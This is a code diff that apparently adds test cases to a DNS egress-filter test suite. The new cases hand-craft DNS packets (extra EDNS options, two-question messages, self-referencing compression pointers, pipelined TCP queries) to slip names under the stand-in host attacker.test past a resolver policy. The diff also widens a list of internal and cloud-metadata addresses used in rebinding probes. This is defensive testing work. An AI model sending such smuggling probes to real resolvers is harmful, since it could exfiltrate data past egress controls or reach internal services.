@@ -92,6 +92,44 @@ def behind_the_question(t):
 
 
 @family.attack("bytes")
+def in_an_option(t):
+    """An EDNS option beside a granted name's question."""
+    option = struct.pack("!HH", 65001, len(t.mark)) + t.mark.encode()
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.connect((resolver(t), 53))
+        s.send(struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 1) + query("public.test", 1)[12:] + b"\0" + struct.pack("!HHIH", 41, 1232, 0, len(option)) + option)
+
+
+@family.attack("bytes")
+def second_question(t):
+    """Two questions in a message, the first of a granted name."""
+    two = query("public.test", 1)[12:] + query(f"{t.mark}.attacker.test", 1)[12:]
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.connect((resolver(t), 53))
+        s.send(struct.pack("!HHHHHH", 7, 0x100, 2, 0, 0, 0) + two)
+
+
+@family.attack("bytes")
+def loop_of_pointers(t):
+    """A name that points to itself, and then an honest one."""
+    loop = struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"\3abc\xc0\x0c" + struct.pack("!HH", 1, 1)
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.connect((resolver(t), 53))
+        s.send(loop)
+        s.send(query(f"{t.mark}.attacker.test", 1))
+
+
+@family.attack("bytes")
+def pipelined_over_tcp(t):
+    """Hundreds of questions in one stream, cut anywhere."""
+    data = b"".join(struct.pack("!H", len(q)) + q for q in (query(f"{i}.{t.mark}.attacker.test", 1) for i in range(200)))
+    with socket.create_connection((resolver(t), 53), timeout=3) as s:
+        for i in range(0, len(data), 1001):
+            s.sendall(data[i:i + 1001])
+        t.drain(s, 2)
+
+
+@family.attack("bytes")
 def connected_to(t):
     """The name is not looked up outside when it is only connected to."""
     t.request(f"{t.mark}.attacker.test", "/")
@@ -114,6 +152,7 @@ def inward(name, address, about=""):
 # Below, these are also where the host's resolver leads NAME.rebind.test (see run).
 INWARD = {"loopback": "127.0.0.1", "loopback-other": "127.7.7.7", "private-10": "10.66.0.5", "private-172": "172.16.5.5", "private-192": "192.168.5.5",
           "metadata": "169.254.169.254", "shared": "100.64.0.7", "benchmark": "198.19.5.5", "unspecified": "0.0.0.0",
+          "nat64": "64:ff9b::a42:5", "six-to-four": "2002:a42:5::1", "site": "fec0::5", "compatible": "::10.66.0.5", "translated": "::ffff:0:a42:5",
           "six-loopback": "::1", "six-local": "fd00::5", "six-mapped": "::ffff:127.0.0.1"}
 for word, address in INWARD.items():
     inward(word, "127.0.0.1" if address in ("0.0.0.0", "::ffff:127.0.0.1") else address)
